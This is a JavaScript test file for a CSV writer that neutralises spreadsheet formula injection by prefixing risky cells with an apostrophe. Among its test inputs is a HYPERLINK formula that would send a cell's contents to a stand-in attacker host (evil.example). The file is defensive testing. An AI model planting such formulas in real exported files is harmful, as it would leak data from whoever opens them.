// csv-text.js: the one place the browser scripts write CSV. A cell a spreadsheet could run as a
// formula gets a leading apostrophe (OWASP's advice), the same rule as esafety_portal.csv_text.
"use strict";
const test = require("node:test");
const assert = require("node:assert/strict");
const CsvText = require("../../docs/assets/javascripts/csv-text.js");
const S = require("../../docs/assets/javascripts/self-review-state.js");

test("a cell that starts like a formula gets an apostrophe", () => {
  for (const value of ["=1+1", '=HYPERLINK("https://evil.example/?"&A1,"x")', "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]) {
    assert.equal(CsvText.cell(value), '"\'' + value.replace(/"/g, '""') + '"', JSON.stringify(value));
  }
});

test("other cells are quoted and left as they are", () => {
  for (const value of ["feature-01", "1+1", " =1", "e-Safety", "", "'=1", "say \"hi\""]) {
    assert.equal(CsvText.cell(value), '"' + value.replace(/"/g, '""') + '"', JSON.stringify(value));
  }
  assert.equal(CsvText.cell(undefined), '""');
  assert.equal(CsvText.cell(3), '"3"');
});

test("a file has a byte-order mark and CRLF line ends", () => {
  assert.equal(CsvText.text([["a", "-1"], ["b", "c"]]), '\ufeff"a","\'-1"\r\n"b","c"\r\n');
});

test("the self-review's CSV is written by it", () => {
  assert.equal(S.csv, CsvText.text);
});

test("parse reads back what text wrote, and refuses a quote left open", () => {
  const rows = [["a", "=1+1", "say \"hi\", then\r\nleave", ""], ["", "x"]];
  assert.deepEqual(CsvText.parse(CsvText.text(rows)), rows);
  assert.deepEqual(CsvText.parse("a,b\nc,d"), [["a", "b"], ["c", "d"]]);
  assert.equal(CsvText.parse('"open'), null);
  assert.equal(CsvText.parse('"a"b'), null);
});
